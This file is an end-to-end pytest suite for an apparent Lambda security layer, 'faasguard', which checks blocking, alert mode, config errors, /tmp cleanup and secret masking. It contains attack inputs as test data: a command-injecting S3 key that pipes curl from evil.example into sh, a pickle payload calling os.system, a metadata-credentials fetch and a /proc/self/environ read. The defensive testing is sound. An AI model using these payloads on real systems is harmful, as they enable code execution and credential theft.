"""End to end: a handler under awslambdaric, started through the layer's exec wrapper, against a local Runtime API.

Each run is its own subprocess (audit hooks cannot be removed). The test plays Lambda's bootstrap: it runs
``$AWS_LAMBDA_EXEC_WRAPPER python -m awslambdaric app.handler`` with the layer unpacked from the zip that
`faasguard guard build-layer` builds.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import pytest
from guard_runtime_api import RuntimeAPI

from faasguard.commands.guard import build_layer

APP = Path(__file__).parents[1] / "fixtures" / "guard" / "app"
PASSWORD = "hunter2-correct-horse-battery"


@pytest.fixture(scope="module")
def layer(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("layer")
    build_layer(root / "layer.zip")
    with zipfile.ZipFile(root / "layer.zip") as archive:
        archive.extractall(root / "opt")
    wrapper = root / "opt" / "faasguard-guard"
    wrapper.chmod(0o755)  # extractall does not restore permissions; Lambda's unpacking does
    return root / "opt"


class Runtime:
    """One execution environment: the Runtime API server plus the runtime process started via the wrapper."""

    def __init__(self, layer: Path, tmp: Path, env: dict[str, str], timeout_ms: int = 30_000) -> None:
        self.api = RuntimeAPI(timeout_ms)
        self.tmp = tmp / "fn-tmp"
        (self.tmp / "cache").mkdir(parents=True)
        self.stdout = tmp / "stdout.log"
        self.stderr = tmp / "stderr.log"
        full_env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANG": "C.UTF-8",
            "AWS_LAMBDA_RUNTIME_API": self.api.address, "_HANDLER": "app.handler",
            "AWS_LAMBDA_EXEC_WRAPPER": str(layer / "faasguard-guard"), "LAMBDA_TASK_ROOT": str(APP),
            "AWS_LAMBDA_FUNCTION_NAME": "guarded-fn", "AWS_REGION": "us-east-1", "PYTHONDONTWRITEBYTECODE": "1",
            "DB_PASSWORD": PASSWORD, "APP_TMP": str(self.tmp),
            **env,
        }
        command = [full_env["AWS_LAMBDA_EXEC_WRAPPER"], sys.executable, "-m", "awslambdaric", "app.handler"]
        self.proc = subprocess.Popen(command, cwd=APP, env=full_env, stdout=self.stdout.open("wb"),
                                     stderr=self.stderr.open("wb"))

    def invoke(self, event: Any, **kwargs: Any) -> tuple[str, Any]:
        return self.api.invoke(event, **kwargs)

    def last_request_id(self) -> str:
        return list(self.api.results)[-1]

    def stop(self) -> tuple[str, str]:
        self.proc.terminate()
        self.proc.wait(10)
        self.api.close()
        return self.stdout.read_text(), self.stderr.read_text()

    def tmp_left(self) -> list[str]:
        return sorted(p.relative_to(self.tmp).as_posix() for p in self.tmp.rglob("*"))


def guard_lines(text: str, kind: str | None = None) -> list[dict[str, Any]]:
    lines = []
    for line in text.splitlines():
        if line.startswith('{"faasguard"'):
            record = json.loads(line)
            if kind is None or record["faasguard"] == kind:
                lines.append(record)
    return lines


def tmp_config(runtime_tmp: Path, **policies: str) -> dict[str, Any]:
    return {"policies": policies, "tmp": {"dir": str(runtime_tmp), "keep": [str(runtime_tmp / "cache")]},
            "files": {"write_allow": [str(runtime_tmp), "/dev/null"]}, "timeout": {"margin_ms": 1000}}


class _Evil:
    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, ("echo PICKLE-RCE",))


def s3_event(key: str) -> dict[str, Any]:
    return {"Records": [{"eventSource": "aws:s3", "eventName": "ObjectCreated:Put",
                         "s3": {"bucket": {"name": "uploads"}, "object": {"key": quote_plus(key), "size": 7}}}]}


def test_layer_blocks_attacks_and_keeps_answering(layer: Path, tmp_path: Path) -> None:
    config_file = tmp_path / "guard.json"
    runtime_tmp = tmp_path / "fn-tmp"
    config_file.write_text(json.dumps(tmp_config(runtime_tmp, process="block", network="block", files="block",
                                                 deserialization="block")))
    rt = Runtime(layer, tmp_path, {"FAASGUARD_CONFIG": str(config_file)})
    try:
        kind, body = rt.invoke({"action": "hello"})
        assert kind == "response" and body["ok"] and body["installed"]
        assert body["guard"].startswith(str(layer)), "the layer's copy of the guard must be the one running"
        attacks = {
            "process": s3_event("uploads/cat.jpg; curl http://evil.example/x | sh"),
            "deserialization": {"action": "pickle", "payload": base64.b64encode(__import__("pickle").dumps(
                _Evil())).decode()},
            "network": {"action": "fetch", "url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
            "file": {"action": "read", "path": "/proc/self/environ"},
        }
        request_ids = {}
        for expected_type, event in attacks.items():
            kind, body = rt.invoke(event)
            assert kind == "error", (expected_type, body)
            assert body["errorType"] == "GuardBlocked", body
            request_ids[expected_type] = rt.last_request_id()
            assert rt.tmp_left() == ["cache", *sorted(f"cache/kept-{r}" for r in request_ids.values())] or \
                all(p.startswith("cache") for p in rt.tmp_left()), rt.tmp_left()
        kind, body = rt.invoke({"action": "log"})
        assert kind == "response" and body == {"logged": True}
        kind, body = rt.invoke({"requestContext": {"stage": "prod"}, "httpMethod": "DELETE", "path": "/items/1"})
        assert kind == "response" and body["statusCode"] == 400 and "DELETE" in body["body"]
        kind, body = rt.invoke({"action": "hello"})
        assert kind == "response" and body["ok"]
    finally:
        stdout, stderr = rt.stop()
    events = guard_lines(stderr, "event")
    for expected_type, request_id in request_ids.items():
        mine = [e for e in events if e["request_id"] == request_id]
        assert len(mine) == 1, (expected_type, mine)
        assert mine[0]["type"] == expected_type and mine[0]["action"] == "blocked"
        assert mine[0]["function"] == "guarded-fn"
    process_event = next(e for e in events if e["type"] == "process")
    assert "curl http://evil.example/x | sh" in process_event["detail"]["command"]
    assert next(e for e in events if e["type"] == "deserialization")["detail"]["global"] == "posix.system"
    assert next(e for e in events if e["type"] == "network")["detail"]["host"] == "169.254.169.254"
    assert "PICKLE-RCE" not in stdout + stderr
    # the secret never reaches the log, in print() or in logging, nor do AWS key patterns
    log = stdout + stderr
    assert PASSWORD not in log and "AKIAIOSFODNN7EXAMPLE" not in log and "bPxRfiCYEXAMPLEKEY" not in log
    assert "connecting with password=****" in log and "db password is ****" in log
    summaries = guard_lines(stderr, "summary")
    assert len(summaries) == 8
    assert all(s["tmp_removed"] == 3 for s in summaries if s["request_id"] in request_ids.values())
    assert any(e["type"] == "validation" and e["action"] == "rejected" for e in events)
    # /tmp: only the keep-listed cache survives
    assert all(p.startswith("cache") for p in rt.tmp_left())


def test_layer_alert_mode_lets_operations_through(layer: Path, tmp_path: Path) -> None:
    runtime_tmp = tmp_path / "fn-tmp"
    env = {f"FAASGUARD_POLICY_{p}": "alert" for p in ("PROCESS", "NETWORK", "FILES", "DESERIALIZATION")}
    env["FAASGUARD_CONFIG_JSON"] = json.dumps({"tmp": {"dir": str(runtime_tmp), "keep": [str(runtime_tmp / "cache")]},
                                               "files": {"write_allow": [str(runtime_tmp), "/dev/null"]}})
    rt = Runtime(layer, tmp_path, env)
    try:
        kind, body = rt.invoke(s3_event("photos/dog.jpg; echo INJECTED-COMMAND-RAN"))
        assert kind == "response", body
        process_request = rt.last_request_id()
        kind, body = rt.invoke({"action": "read", "path": "/proc/self/environ"})
        assert kind == "response" and body["read"] > 0
        environ_request = rt.last_request_id()
    finally:
        stdout, stderr = rt.stop()
    assert "INJECTED-COMMAND-RAN" in stdout + stderr  # alert mode: the command ran, and we said so
    events = guard_lines(stderr, "event")
    process_events = [e for e in events if e["request_id"] == process_request]
    assert [(e["type"], e["action"]) for e in process_events] == [("process", "alerted")]
    environ_events = [e for e in events if e["request_id"] == environ_request]
    assert [(e["type"], e["action"]) for e in environ_events] == [("file", "alerted")]
    assert all(p.startswith("cache") for p in rt.tmp_left())


@pytest.mark.parametrize("fail", ["closed", "open"])
def test_broken_config(layer: Path, tmp_path: Path, fail: str) -> None:
    env = {"FAASGUARD_CONFIG_JSON": '{"policies": {"process": "maybe"}}', "FAASGUARD_ON_CONFIG_ERROR": fail}
    rt = Runtime(layer, tmp_path, env)
    try:
        if fail == "closed":
            error = rt.api.wait_init_error()
            assert "policies.process" in error["errorMessage"] and "fail closed" in error["errorMessage"]
        else:
            kind, body = rt.invoke({"action": "hello"})
            assert kind == "response" and body["installed"] is False
    finally:
        _stdout, stderr = rt.stop()
    errors = guard_lines(stderr, "config-error")
    assert len(errors) == 1 and "expected block, alert or off, got 'maybe'" in errors[0]["error"]
    assert errors[0]["on_config_error"] == fail


def test_handler_raising_timing_out_and_bad_shapes(layer: Path, tmp_path: Path) -> None:
    runtime_tmp = tmp_path / "fn-tmp"
    env = {"FAASGUARD_CONFIG_JSON": json.dumps(tmp_config(runtime_tmp))}
    rt = Runtime(layer, tmp_path, env)
    try:
        kind, body = rt.invoke({"action": "raise"})
        assert kind == "error" and body["errorType"] == "ValueError"
        assert all(p.startswith("cache") for p in rt.tmp_left())
        kind, body = rt.invoke({"action": "sleep", "seconds": 0.8}, timeout_ms=1500)
        assert kind == "response"
        sleep_request = rt.last_request_id()
        kind, body = rt.invoke({"action": "validate-s3", "event": {"httpMethod": "GET"}})
        assert kind == "error" and body["errorType"] == "ValidationError" and "no Records" in body["errorMessage"]
        kind, body = rt.invoke(["not", "an", "object"])  # an event of unexpected shape: the guard copes
        assert kind == "response" and body["ok"]
        kind, body = rt.invoke({"action": "hello"})
        assert kind == "response" and body["ok"]
    finally:
        _stdout, stderr = rt.stop()
    timeouts = [e for e in guard_lines(stderr, "event") if e["type"] == "timeout"]
    assert len(timeouts) == 1 and timeouts[0]["request_id"] == sleep_request
    assert timeouts[0]["detail"]["remaining_ms"] <= 1000
    assert len(guard_lines(stderr, "summary")) == 5


def test_tmp_cleanup_across_concurrent_worker_processes(layer: Path, tmp_path: Path) -> None:
    """Lambda's multi-concurrency mode for Python: awslambdaric forks workers sharing /tmp."""
    runtime_tmp = tmp_path / "fn-tmp"
    env = {"FAASGUARD_CONFIG_JSON": json.dumps(tmp_config(runtime_tmp)), "AWS_LAMBDA_MAX_CONCURRENCY": "2"}
    rt = Runtime(layer, tmp_path, env)
    try:
        import threading

        results: dict[str, Any] = {}
        slow = threading.Thread(target=lambda: results.setdefault("slow", rt.invoke(
            {"action": "concurrent", "hold": 1.5})))
        slow.start()
        time.sleep(0.5)
        results["fast"] = rt.invoke({"action": "concurrent", "hold": 0})
        slow.join(20)
    finally:
        rt.stop()
    assert results["fast"][0] == "response" and results["slow"][0] == "response"
    # the fast invocation's cleanup (another worker) did not remove the slow one's file
    assert results["slow"][1]["mine_still_there"] is True
    assert results["slow"][1]["pid"] != results["fast"][1]["pid"]
    assert all(p.startswith("cache") for p in rt.tmp_left())


def test_handler_code_cannot_reach_the_runtime_api_and_errors_are_masked(layer: Path, tmp_path: Path) -> None:
    """Issue 20 items 1 and 4: trust by exact call site (awslambdaric frames below the handler do not make it
    trusted), and the errorMessage/stackTrace posted to the Runtime API carry no secret."""
    runtime_tmp = tmp_path / "fn-tmp"
    rt = Runtime(layer, tmp_path, {"FAASGUARD_CONFIG_JSON": json.dumps(tmp_config(runtime_tmp))})
    outcomes, request_ids = {}, {}
    try:
        for how in ("runtime-next", "runtime-client", "runtime-thread", "runtime-forged"):
            kind, body = rt.invoke({"action": how})
            assert kind == "response", (how, body)
            outcomes[how] = body["outcome"]
            request_ids[how] = rt.last_request_id()
        kind, error = rt.invoke({"action": "leak-error"})
        kind_after, body_after = rt.invoke({"action": "hello"})  # the runtime itself still talks to the API
    finally:
        stdout, stderr = rt.stop()
    assert outcomes == dict.fromkeys(outcomes, "GuardBlocked")
    events = guard_lines(stderr, "event")
    for how, request_id in request_ids.items():
        mine = [e for e in events if e["request_id"] == request_id]
        assert [(e["type"], e["policy"], e["action"]) for e in mine] == [("network", "metadata", "blocked")], how
        assert mine[0]["detail"]["reason"] == "Lambda Runtime API reached from function code"
    assert kind == "error" and error["errorType"] == "ValueError"
    assert error["errorMessage"] == "cannot connect with **** key ****"
    assert PASSWORD not in json.dumps(error) and "AKIAIOSFODNN7EXAMPLE" not in json.dumps(error)
    assert any("****" in line for line in error["stackTrace"])
    assert kind_after == "response" and body_after["ok"]
    assert PASSWORD not in stdout + stderr and "AKIAIOSFODNN7EXAMPLE" not in stdout + stderr
